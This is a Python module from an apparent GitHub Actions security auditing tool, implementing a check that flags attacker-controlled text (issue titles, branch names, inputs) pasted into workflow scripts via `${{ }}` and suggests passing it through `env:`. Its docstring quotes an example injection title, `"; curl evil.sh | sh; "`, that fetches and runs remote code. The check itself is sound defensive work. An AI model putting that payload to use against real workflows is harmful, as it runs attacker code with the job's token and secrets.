"""Template injection: `${{ }}` expansions of attacker-controlled text inside scripts."""

from __future__ import annotations

from collections.abc import Iterator

from urr_audit.checks.api import Context, Hit, check
from urr_audit.checks.github.security._common import line
from urr_audit.checks.github.security.taint import Scope, Taint, TaintParams, Tracer
from urr_audit.model.project import Project
from urr_audit.model.workflows import Action, Scalar, Step, Workflow


def _scripts(step: Step, script_inputs: dict[str, list[str]]) -> Iterator[tuple[str, Scalar]]:
    if step.run is not None:
        yield "run", step.run.script
    elif step.uses is not None and step.uses.action in script_inputs:
        for key in script_inputs[step.uses.action]:
            if key in step.with_:
                yield f"with.{key}", step.with_[key]


def _sites(tracer: Tracer, project: Project) -> Iterator[tuple[Scope, Step]]:
    for wf in project.workflows.workflows:
        for job in wf.jobs.values():
            for i, step in enumerate(job.steps):
                yield tracer.scope(wf, job, i), step
    for action in project.workflows.actions:
        for i, step in enumerate(action.steps):
            yield tracer.scope(action, None, i), step


def _rating(t: Taint, file: Workflow | Action) -> tuple[str | None, str]:
    """Severity override and the sentence saying who controls the text."""
    if t.kind == "event":
        return (
            None,
            "anyone who can open a pull request, an issue or a comment (or push a branch to a fork) chooses this text",
        )
    if isinstance(file, Action):
        who = "whoever uses this action passes it"
    elif file.trigger("workflow_call") is not None and file.trigger("workflow_dispatch") is not None:
        who = "the caller passes it, or whoever dispatches the workflow types it"
    elif file.trigger("workflow_call") is not None:
        who = "the calling workflow passes it"
    else:
        who = "whoever dispatches the workflow (write access) types it"
    if t.callers_closed:
        return (
            "low",
            f"free text: {who}; every caller in this repository passes a fixed, harmless value today, but nothing keeps the next one from passing a branch name or a title",
        )
    return "medium", f"free text: {who}, and a value with a quote, `$(` or a backquote becomes code"


@check("gha-template-injection", scope="project", params=TaintParams, subjects=("run", "actions/github-script"))
def template_injection(ctx: Context, project: Project, params: TaintParams) -> Iterator[Hit]:
    """Attacker-controlled text (pull request and issue titles and bodies, comments, head
    branch names, commit messages and author names, free-text inputs, and step outputs or
    environment variables derived from them) expanded with `${{ }}` into a `run:` script or
    an `actions/github-script` script: the runner pastes the text into the script before it
    runs, so a title such as `"; curl evil.sh | sh; "` runs with the job's token and secrets."""
    tracer = Tracer(project.workflows, params)
    for scope, step in _sites(tracer, project):
        for where, script in _scripts(step, params.script_inputs):
            for expr in script.exprs:
                for ref in expr.refs:
                    if not ref.reaches_value:
                        continue
                    taint = tracer.trace(scope, ref)
                    if taint is None:
                        continue
                    severity, who = _rating(taint, scope.file)
                    sink = "the script" if where == "run" else f"the `{where}` script"
                    yield ctx.finding(
                        at=line(script.span.path, ref.line),
                        column=ref.column,
                        node=step,
                        address=f"{step.address}/{where}/{ref.dotted}",
                        severity=severity,
                        related=[line(p, n) for p, n in taint.related],
                        message=(
                            f"`${{{{ {expr.text} }}}}` pastes {taint.describe(ref.dotted)} into {sink} of step "
                            f"`{step.label}`: {who}. Pass it through `env:` and read it as a shell variable"
                        ),
                    )
